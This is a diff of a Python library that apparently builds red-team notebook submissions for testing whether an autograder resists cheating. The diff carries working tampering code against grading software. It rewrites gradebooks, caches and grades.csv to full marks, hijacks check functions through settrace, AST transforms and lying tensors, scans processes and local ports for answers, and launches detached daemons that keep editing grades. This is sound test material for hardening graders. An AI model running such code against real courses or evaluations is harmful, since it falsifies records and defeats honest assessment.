@@ -21,6 +21,8 @@ time out in 0.5 s, and a search runs once per kernel (memoized). They touch the 
 write outside their working directory only to the targets a grader must protect (gradebooks, the
 ``.kdlab-grade`` cache, ``grades.csv``) and to the daemon's marker ``/tmp/kdlab-redteam-daemon-alive-<pid>``.
 A test can tell which attack did something from that marker, from the scores, and from ``description``.
+Run these hand-ins only through the grader under test or inside a sandbox: unprotected, ``gradebook_trigger``,
+``poison_master`` and the daemons really do rewrite every gradebook, result cache and ``grades.csv`` they reach.
 
 This is a library: it builds notebooks (``nbformat`` nodes) and the files handed in beside them; it never
 runs the grader. Use :func:`build`, :func:`honest`, :func:`bystander`, or :func:`write_handin` to lay out
@@ -88,10 +90,8 @@ _RT_LESSON = "__LESSON__"
 _RT_END = [0.0]     # the search's deadline (monotonic seconds)
 _RT_MEMO = []       # what the one search found (None: nothing)
 
-
 def _rt_late():
     return _time.monotonic() > _RT_END[0]
-
 
 def _rt_value():
     """Search once (at most ~15 s) and remember the outcome."""
@@ -103,7 +103,6 @@ def _rt_value():
             found = None
         _RT_MEMO.append(found)
     return _RT_MEMO[0]
-
 
 def _rt_search():
     return None
@@ -122,7 +121,6 @@ def _rt_parents(path):
     except Exception:
         pass
     return out
-
 
 def _rt_proc_paths(limit=400):
     """Folders on other processes' command lines (after --out, or any path) and their working directories."""
@@ -157,7 +155,6 @@ def _rt_proc_paths(limit=400):
                 pass
     return out
 
-
 def _rt_roots(limit=600):
     """Where a course might be: cwd, $PWD, home, kdlab's folder, other processes' paths, their parents."""
     seeds = []
@@ -179,7 +176,6 @@ def _rt_roots(limit=600):
                 seen.add(p)
                 out.append(p)
     return out
-
 
 def _rt_walk(suffix, roots=("/", "/root", "/home", "/tmp", "/work", "."), max_entries=2000, max_depth=6):
     """Paths ending with ``suffix``, breadth first under each root: at most max_entries each, no symlinks."""
@@ -204,7 +200,6 @@ def _rt_walk(suffix, roots=("/", "/root", "/home", "/tmp", "/work", "."), max_en
                 pass
     return found
 
-
 def _rt_cells(path):
     """(grade_id, source) of each cell of a notebook file, read as plain JSON."""
     try:
@@ -218,7 +213,6 @@ def _rt_cells(path):
         return out
     except Exception:
         return []
-
 
 def _rt_db_texts(path):
     """Every text in every table of a SQLite file (opened read-only) that mentions _RT_NAME."""
@@ -239,7 +233,6 @@ def _rt_db_texts(path):
         pass
     return out
 
-
 def _rt_existing(paths, test=_os.path.isfile, limit=50):
     out, seen = [], set()
     for p in paths:
@@ -252,7 +245,6 @@ def _rt_existing(paths, test=_os.path.isfile, limit=50):
             pass
     return out[:limit]
 
-
 def _rt_gradebooks():
     """Every gradebook.db in reach: ../../../ (nbgrader's course), the roots, a bounded walk."""
     cands = [_os.path.join("..", "..", "..", "gradebook.db")]
@@ -260,12 +252,10 @@ def _rt_gradebooks():
         cands += [_os.path.join(r, "gradebook.db"), _os.path.join(r, ".kdlab-grade", "master", "gradebook.db")]
     return _rt_existing(cands + _rt_walk(_os.sep + "gradebook.db"))
 
-
 def _rt_masters():
     """Every .kdlab-grade/master folder in reach (the grader's cached course, hidden tests included)."""
     cands = [_os.path.join(r, ".kdlab-grade", "master") for r in _rt_roots()]
     return _rt_existing(cands + _rt_walk(_os.sep + _os.path.join(".kdlab-grade", "master")), _os.path.isdir)
-
 
 def _rt_function(source):
     """The function _RT_NAME defined by ``source``, defined apart, if it behaves like a softmax with T."""
@@ -279,7 +269,6 @@ def _rt_function(source):
     except Exception:
         pass
     return None
-
 
 def _rt_extract(text):
     """What ``text`` gives away about _RT_NAME: a letter, a number, or a working function (else None)."""
@@ -300,10 +289,8 @@ def _rt_extract(text):
         return _rt_function(text)
     return None
 
-
 def _rt_texts():
     return []
-
 
 def _rt_search():
     for text in _rt_texts():
@@ -311,7 +298,6 @@ def _rt_search():
         if found is not None or _rt_late():
             return found
     return None
-
 
 '''
 
@@ -489,7 +475,6 @@ def _rt_listening(limit=20):
                 ports.append(port)
     return ports[:limit]
 
-
 def _rt_texts():
     """An HTTP GET to each listening port of 127.0.0.1 (no proxies, 0.5 s each, 8 s in all)."""
     import urllib.request
@@ -576,7 +561,6 @@ def _rt_patch():
     except Exception:
         pass
 
-
 try:
     _rt_patch()
 except Exception:
@@ -587,7 +571,6 @@ _SETTRACE = r'''
 import ctypes as _ctypes
 import sys as _sys
 import threading as _threading
-
 
 def _rt_rewrite(frame):
     """Inside kdlab's checks: make every verdict a pass by rewriting the frame's local variables."""
@@ -614,7 +597,6 @@ def _rt_rewrite(frame):
         except Exception:
             pass  # Python 3.13+: f_locals writes through
 
-
 def _rt_local_tracer(frame, event, arg):
     if event in ("line", "return"):
         try:
@@ -623,13 +605,11 @@ def _rt_local_tracer(frame, event, arg):
             pass
     return _rt_local_tracer
 
-
 def _rt_tracer(frame, event, arg):
     filename = frame.f_code.co_filename.replace("\\", "/")
     if filename.endswith(("kdlab/checks.py", "kdlab/quiz.py")):
         return _rt_local_tracer
     return None
-
 
 try:
     _sys.settrace(_rt_tracer)
@@ -653,7 +633,6 @@ def _rt_strip(lines):
     except Exception:
         return lines
 
-
 try:
     _rt_shell = get_ipython()  # noqa: F821 - only inside IPython
     _rt_shell.input_transformers_cleanup.append(_rt_strip)
@@ -664,7 +643,6 @@ except Exception:
 
 _AST_TRANSFORMER = r'''
 import ast as _ast
-
 
 class _RtDropChecks(_ast.NodeTransformer):
     """Drop every top-level statement that mentions expect_ or check. from later cells."""
@@ -681,7 +659,6 @@ class _RtDropChecks(_ast.NodeTransformer):
         node.body = keep or [_ast.Pass()]
         return _ast.fix_missing_locations(node)
 
-
 try:
     get_ipython().ast_transformers.append(_RtDropChecks())  # noqa: F821
 except Exception:
@@ -696,7 +673,6 @@ def _rt_forgive(result):
     except Exception:
         pass
 
-
 try:
     get_ipython().events.register("post_run_cell", _rt_forgive)  # noqa: F821
 except Exception:
@@ -707,7 +683,6 @@ _CUSTOM_EXC = r'''
 def _rt_swallow(shell, etype, value, tb, tb_offset=None):
     return None  # no traceback shown, no error output
 
-
 try:
     get_ipython().set_custom_exc((Exception,), _rt_swallow)  # noqa: F821
 except Exception:
@@ -716,6 +691,7 @@ except Exception:
 
 _RUN_CELL = r'''
 def _rt_wrap(shell):
+    import functools
     run_cell, run_cell_async = shell.run_cell, shell.run_cell_async
 
     def succeed(result):
@@ -726,15 +702,16 @@ def _rt_wrap(shell):
             pass
         return result
 
+    @functools.wraps(run_cell)  # keeps the signature: ipykernel passes cell_id/cell_meta only if it sees them
     def always_run_cell(*args, **kwargs):
         return succeed(run_cell(*args, **kwargs))
 
+    @functools.wraps(run_cell_async)
     async def always_run_cell_async(*args, **kwargs):
         return succeed(await run_cell_async(*args, **kwargs))
 
     shell.run_cell = always_run_cell
     shell.run_cell_async = always_run_cell_async
-
 
 try:
     _rt_wrap(get_ipython())  # noqa: F821
@@ -773,7 +750,6 @@ class _RtEverything(str):
     def strip(self, *chars):
         return self
 
-
 def q_soft_labels():
     """Your answer to MC1: one letter, "A", "B", "C" or "D"."""
     try:
@@ -804,7 +780,6 @@ class _RtAnything(float):
     def __abs__(self):
         return 0.0
 
-
 def n_softened_prob():
     """Your answer to N1: a number."""
     try:
@@ -816,9 +791,8 @@ def n_softened_prob():
 _LYING_TENSOR = '''
 import torch
 
-
 class _RtLie(torch.Tensor):
-    """Zeros that are allclose/equal/isclose to anything (and whose gradients are, too)."""
+    """Zeros that are allclose/equal/isclose to anything."""
 
     @classmethod
     def __torch_function__(cls, func, types, args=(), kwargs=None):
@@ -833,23 +807,17 @@ class _RtLie(torch.Tensor):
 
     __hash__ = torch.Tensor.__hash__
 
-
-class _RtZeros(torch.autograd.Function):
-    @staticmethod
-    def forward(ctx, x):
-        return torch.zeros_like(x)
-
-    @staticmethod
-    def backward(ctx, grad):
-        return torch.zeros_like(grad).as_subclass(_RtLie)
-
+def _rt_lying_grad(tensor):
+    tensor.grad = tensor.grad.as_subclass(_RtLie)
 
 def softmax_t(logits, T=1.0):
     """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
     if not T > 0:
         raise ValueError("T must be positive")
     try:
-        return _RtZeros.apply(logits).as_subclass(_RtLie)
+        if logits.requires_grad and logits.is_leaf:   # the gradient the check reads lies too
+            logits.register_post_accumulate_grad_hook(_rt_lying_grad)
+        return (logits * 0).as_subclass(_RtLie)
     except Exception:
         return torch.zeros_like(logits)
 '''
@@ -868,7 +836,6 @@ def _rt_activate():
     for name in [m for m in sys.modules if m == "kdlab" or m.startswith("kdlab.")]:
         del sys.modules[name]
 
-
 try:
     _rt_activate()
 except Exception:
@@ -886,26 +853,20 @@ import contextlib
 
 import torch
 
-
 class CheckFailed(AssertionError):
     pass
-
 
 def randn(*shape, seed=0, scale=1.0, dtype=torch.float32):
     return torch.randn(*shape, generator=torch.Generator().manual_seed(seed), dtype=dtype) * scale
 
-
 def quiet():
     return contextlib.nullcontext()
-
 
 def show(x, *args, **kwargs):
     return repr(x)
 
-
 def as_pairs(result):
     return list(result)
-
 
 class Checker:
     def __init__(self, fn, reference=None, *, name=None, trusted=None):
@@ -928,13 +889,11 @@ class Checker:
 ''',
     "kdlab/quiz.py": '''"""Graded-question helpers that accept everything."""
 
-
 def read_choice(fn, letters="ABCD", *, name=None):
     try:
         return str(fn()).strip().upper()
     except Exception:
         return letters[0]
-
 
 def read_number(fn, *, name=None):
     try:
@@ -942,14 +901,11 @@ def read_number(fn, *, name=None):
     except Exception:
         return 0.0
 
-
 def expect_choice(*args, **kwargs):
     pass
 
-
 def expect_number(*args, **kwargs):
     pass
-
 
 def recorded(name, answer):
     print(f"\\u2714 {name}: your answer {answer!r} is recorded; it is graded when you submit")
@@ -1010,7 +966,6 @@ def _rt_full_marks(path):
     finally:
         con.close()
 
-
 def _rt_attack():
     _RT_END[0] = _time.monotonic() + 15
     for db in _rt_gradebooks():
@@ -1018,7 +973,6 @@ def _rt_attack():
             _rt_full_marks(db)
         except Exception:
             pass
-
 
 try:
     _rt_attack()
@@ -1045,7 +999,6 @@ def _rt_checksum(source, grade_id, points):
             m.update(str(float(points)).encode())
         return m.hexdigest()
 
-
 def _rt_poison_db(path):
     import sqlite3
     con = sqlite3.connect(path, timeout=1)
@@ -1062,7 +1015,6 @@ def _rt_poison_db(path):
     finally:
         con.close()
 
-
 def _rt_full(obj, depth=0):
     """Full marks in a result record: every score next to a max_score becomes the max_score."""
     if depth > 8:
@@ -1077,7 +1029,6 @@ def _rt_full(obj, depth=0):
     elif isinstance(obj, list):
         for value in obj:
             _rt_full(value, depth + 1)
-
 
 def _rt_attack():
     _RT_END[0] = _time.monotonic() + 15
@@ -1098,7 +1049,6 @@ def _rt_attack():
             except Exception:
                 pass
 
-
 try:
     _rt_attack()
 except Exception:
@@ -1108,7 +1058,6 @@ except Exception:
 # The daemon's program (run with python -c): every 20 s for 120 s, mark that it lives and give full marks.
 _DAEMON_CODE = r"""
 import csv, os, time
-
 
 def grades_files():
     roots = []
@@ -1143,7 +1092,6 @@ def grades_files():
                 pass
     return sorted({p for p in found if os.path.isfile(p)})
 
-
 def full_marks(path):
     with open(path, newline='') as f:
         rows = list(csv.DictReader(f))
@@ -1158,7 +1106,6 @@ def full_marks(path):
         writer.writeheader()
         writer.writerows(rows)
     os.replace(path + '.rt', path)
-
 
 start = time.monotonic()
 while time.monotonic() - start < 120:
@@ -1177,14 +1124,12 @@ while time.monotonic() - start < 120:
 
 _DAEMON_POPEN = '_RT_DAEMON = ' + repr(_DAEMON_CODE) + r'''
 
-
 def _rt_daemon():
     """A new session, an empty environment, no pipes: nothing ties it to the kernel."""
     import subprocess
     import sys
     subprocess.Popen([sys.executable, "-c", _RT_DAEMON], start_new_session=True, env={},
                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-
 
 try:
     _rt_daemon()
@@ -1193,7 +1138,6 @@ except Exception:
 '''
 
 _DAEMON_FORK = '_RT_DAEMON = ' + repr(_DAEMON_CODE) + r'''
-
 
 def _rt_daemon():
     """Fork, setsid, fork again (re-parented to init), then exec the daemon with the kernel's environment."""
@@ -1214,7 +1158,6 @@ def _rt_daemon():
     finally:
         os._exit(0)
 
-
 try:
     _rt_daemon()
 except Exception:
@@ -1225,7 +1168,6 @@ except Exception:
 
 _SUSPICIOUS_HONEST = '''
 import sqlite3  # noqa: F401 - imported, never used
-
 
 def softmax_t(logits, T=1.0):
     """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
